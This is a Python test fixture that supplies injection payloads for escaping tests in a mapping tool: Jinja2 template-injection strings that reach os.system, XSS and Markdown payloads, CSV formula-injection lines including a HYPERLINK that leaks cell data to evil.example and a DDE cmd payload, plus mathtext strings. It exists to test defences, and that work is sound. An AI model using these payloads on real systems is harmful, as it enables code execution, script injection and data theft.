"""Hostile text for the injection tests: Jinja2, HTML, JavaScript, Markdown, CSV, mathtext.

Each payload is harmless when shown as text and observable when it is *interpreted*:

* Jinja2 payloads create a marker file (``touch``), set an environment variable (a quote-free
  payload), print ``49`` or break template parsing (``{% if``);
* HTML/JavaScript payloads set ``window.__pwned`` when they run;
* Markdown payloads become links, images or raw HTML when not escaped;
* CSV payloads start with a spreadsheet formula prefix;
* mathtext payloads change (or break) a matplotlib title.
"""

from __future__ import annotations

import os
from pathlib import Path

PWNED_ENV = "GEOMAP_PWNED"


def touch(marker: Path, quote: str = "'") -> str:
    """A Jinja2 payload that creates ``marker`` if it is ever rendered as a template."""
    return f"{{{{ cycler.__init__.__globals__.os.system({quote}touch {marker}{quote}) }}}}"


# quote-free: sets an environment variable (the recipe-name case of the issue had no quotes)
QUOTE_FREE = f"{{{{ cycler.__init__.__globals__.os.environ.update({PWNED_ENV}=cycler.__name__) }}}}"

FIXED_PAYLOADS = [
    "{{7*7}}",
    "{% if",
    "{% if x %}y{% endif %}",
    "{# comment",
    "{{",
    "}}",
    "{%- raw %}",
    QUOTE_FREE,
    "<script>window.__pwned=1</script>",
    '"><img src=x onerror="window.__pwned=2">',
    "</script><script>window.__pwned=3</script>",
    "<svg onload=window.__pwned=4>",
    "javascript:window.__pwned=5",
    "[click](javascript:window.__pwned=6)",
    "![img](x onerror=window.__pwned=7)",
    "<https://evil.example/>",
    "`code` *em* _em_ | a | b | ~~s~~",
    "# heading",
    "- item",
    "&lt;script&gt; &#60;",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "$x^2$",
    r"$\undefinedcommand{$",
    r"$\sqrt{2}$ and $",
    "'\"\\",
    "a\u2028b\u2029c",
    "line one\nline two",
]


def all_payloads(folder: Path) -> list[str]:
    """Every payload, the ``touch`` ones writing their marker into ``folder``."""
    return [
        touch(folder / "pwned_single"),
        touch(folder / "pwned_double", quote='"'),
        *FIXED_PAYLOADS,
    ]


def executed(folder: Path) -> list[str]:
    """What a payload did: marker files created in ``folder``, the environment variable set."""
    done = sorted(p.name for p in folder.glob("pwned*"))
    if PWNED_ENV in os.environ:
        done.append(f"${PWNED_ENV}={os.environ[PWNED_ENV]}")
    return done


def squash(text: str) -> str:
    """Collapse whitespace (browsers turn CR into LF and collapse runs in titles)."""
    return " ".join(text.split())
